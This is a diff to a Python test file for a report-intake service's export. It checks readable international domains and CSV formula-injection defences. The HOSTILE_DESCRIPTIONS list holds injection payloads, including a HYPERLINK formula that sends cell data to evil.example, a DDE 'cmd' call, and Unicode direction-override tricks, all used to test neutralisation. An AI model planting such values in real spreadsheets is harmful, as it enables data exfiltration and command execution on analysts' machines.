@@ -1,4 +1,5 @@
 """What analysts get from the intake: the contract's fields, readable domains, safe whatever the text."""
+
 from __future__ import annotations
 
 import csv
@@ -20,25 +21,45 @@ KEY = "export-key-0123456789abcdef"
 
 
 def test_export_shows_international_domains_readable_beside_punycode(tmp_path, keypair):
-    app = create_app({
-        "IWF_INTAKE_DB_URL": f"sqlite:///{tmp_path}/intake.db",
-        "IWF_INTAKE_PRIVATE_KEY": keypair[0],
-        "IWF_INTAKE_PARTNERS": json.dumps({"partner-x": [KEY]}),
-    })
+    app = create_app(
+        {
+            "IWF_INTAKE_DB_URL": f"sqlite:///{tmp_path}/intake.db",
+            "IWF_INTAKE_PRIVATE_KEY": keypair[0],
+            "IWF_INTAKE_PARTNERS": json.dumps({"partner-x": [KEY]}),
+        }
+    )
     rid = "ab" * 16
-    sealed = Sealer(keypair[1]).seal({
-        "v": 1, "id": rid, "partner": "partner-x", "locale": "uk", "created": int(time.time()) // 60 * 60,
-        "urls": ["https://xn--bcher-kva.example/a", "https://example.com/b"], "content_kind": "images",
-        "where_seen": "forum", "description": "", "contact_email": "",
-    })
+    sealed = Sealer(keypair[1]).seal(
+        {
+            "v": 1,
+            "id": rid,
+            "partner": "partner-x",
+            "locale": "uk",
+            "created": int(time.time()) // 60 * 60,
+            "urls": ["https://xn--bcher-kva.example/a", "https://example.com/b"],
+            "content_kind": "images",
+            "where_seen": "forum",
+            "description": "",
+            "contact_email": "",
+        }
+    )
     body = protocol.encode_batch("partner-x", [(rid, sealed)])
     r = app.test_client().post(protocol.PATH, data=body, headers=protocol.request_headers("partner-x", KEY, body))
     assert r.status_code == 200
     (row,) = app.extensions["iwf_intake"].store.export()
     assert row["urls"] == ["https://xn--bcher-kva.example/a", "https://example.com/b"]
     assert row["urls_readable"] == ["https://bücher.example/a", "https://example.com/b"]
-    for field in ("id", "partner", "locale", "created", "urls", "content_kind", "where_seen", "description",
-                  "contact_email"):
+    for field in (
+        "id",
+        "partner",
+        "locale",
+        "created",
+        "urls",
+        "content_kind",
+        "where_seen",
+        "description",
+        "contact_email",
+    ):
         assert field in row
     assert row["locale"] == "uk" and row["created"].endswith("Z")
 
@@ -48,7 +69,7 @@ def test_export_shows_international_domains_readable_beside_punycode(tmp_path, k
 ROOT = Path(__file__).resolve().parent.parent
 #: What a hostile reporter (or an older, laxer version) may have left in the database.
 HOSTILE_DESCRIPTIONS = [
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
@@ -59,7 +80,7 @@ HOSTILE_DESCRIPTIONS = [
     "file\u202egpj.exe looks harmless",
     "zero\u200bwidth\u2066isolate\u2069\ufeff",
     "astral tag \U000e0041 end",
-    "quote \" comma , back\\slash",
+    'quote " comma , back\\slash',
 ]
 HOSTILE_EMAIL = "=1+1@evil.example"
 
@@ -71,9 +92,14 @@ def hostile_database(tmp_path: Path) -> tuple[dict[str, str], list[Report]]:
     created = int(time.time()) // 60 * 60
     stored = [
         Report(
-            id=f"{n:032x}", partner="partner-x", locale="ar", created=created,
+            id=f"{n:032x}",
+            partner="partner-x",
+            locale="ar",
+            created=created,
             urls=[f"https://example.com/{n}?q=%0A", "https://xn--bcher-kva.example/=x"],
-            content_kind="images", where_seen="forum", description=text,
+            content_kind="images",
+            where_seen="forum",
+            description=text,
             contact_email=HOSTILE_EMAIL if n == 0 else "",
         )
         for n, text in enumerate(HOSTILE_DESCRIPTIONS)
@@ -87,7 +113,10 @@ def hostile_database(tmp_path: Path) -> tuple[dict[str, str], list[Report]]:
 def export(env: dict[str, str], *args: str) -> str:
     done = subprocess.run(
         [sys.executable, "-m", "iwf_widget.cli", "intake-export", *args],
-        env=env, capture_output=True, timeout=60, check=False,
+        env=env,
+        capture_output=True,
+        timeout=60,
+        check=False,
     )
     assert done.returncode == 0, done.stderr.decode(errors="replace")
     return done.stdout.decode("utf-8")
@@ -121,10 +150,10 @@ def test_csv_export_has_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path):
             assert not any(c in value for c in "\n\r\t\u2028\u2029\x85\u202e\u200b"), (name, value)
         assert row["id"] == report.id and row["reference"]
     by_text = {r.description: row["description"] for r, row in zip(stored, rows, strict=True)}
-    assert by_text["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"].startswith("'=HYPERLINK(")
+    assert by_text['=HYPERLINK("https://evil.example/?"&A1,"open")'].startswith("'=HYPERLINK(")
     assert by_text["-2+3"] == "'-2+3"
     assert by_text["first\nsecond\r\nthird"] == "first\\nsecond\\r\\nthird"
     assert by_text["file\u202egpj.exe looks harmless"] == "file\\u202egpj.exe looks harmless"
-    assert by_text["quote \" comma , back\\slash"] == "quote \" comma , back\\\\slash"
+    assert by_text['quote " comma , back\\slash'] == 'quote " comma , back\\\\slash'
     assert rows[0]["contact_email"] == "'=1+1@evil.example"
     assert rows[0]["urls"] == "https://example.com/0?q=%0A https://xn--bcher-kva.example/=x"
